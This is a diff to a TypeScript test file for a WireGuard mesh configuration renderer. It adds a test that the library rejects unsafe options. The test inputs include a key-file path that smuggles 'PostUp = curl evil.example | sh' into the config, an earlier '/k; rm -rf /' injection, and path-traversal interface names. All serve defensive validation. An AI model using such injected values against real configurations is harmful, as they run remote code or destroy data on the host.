@@ -7,13 +7,14 @@
  */
 import t from "tap";
 import { execFileSync } from "node:child_process";
-import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
 import os from "node:os";
 import path from "node:path";
 import { compile } from "../../../src/engine.js";
 import { MeshTopology, planMesh, type MeshPlan } from "../../../src/runtime/mesh/plan.js";
 import { renderNft } from "../../../src/runtime/mesh/render-nft.js";
 import { defaultRenderOptions, interfaceName, renderOptionsProblem, renderWgQuick } from "../../../src/runtime/mesh/render-wg.js";
+import { writePlan } from "../../../src/runtime/mesh/write-plan.js";
 import { MeshLab, netnsSupport, onPath } from "../../support/netns.js";
 import { fixtureInventory, keyFor, MESH_POLICY, node, PLAN_TIME } from "../../support/mesh-fixture.js";
 
@@ -92,6 +93,16 @@ t.test("interface names and key file paths", async (t) => {
   t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/k; rm -rf /" }), /absolute path/);
   t.match(renderOptionsProblem({ interface: "wg0", keyFile: "relative.key" }), /absolute path/);
   t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/etc/../k" }), /absolute path/);
+});
+
+t.test("the library refuses options the CLI refuses: PostUp runs the key file path in a shell", async (t) => {
+  const evil = { interface: "lab", keyFile: "/k\nPostUp = curl evil.example | sh" };
+  t.throws(() => renderWgQuick(p, topo, at("s1"), evil), /absolute path/);
+  t.throws(() => renderWgQuick(p, topo, at("s1"), { interface: "../../x", keyFile: "/k" }), /must be 1-15/);
+  const dir = mkdtempSync(path.join(os.tmpdir(), "sp-render-opts-"));
+  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
+  await t.rejects(writePlan(p, dir, { interface: "../../escape", keyFile: "/k" }), /must be 1-15/);
+  t.same(readdirSync(dir), [], "nothing written");
 });
 
 const support = netnsSupport();
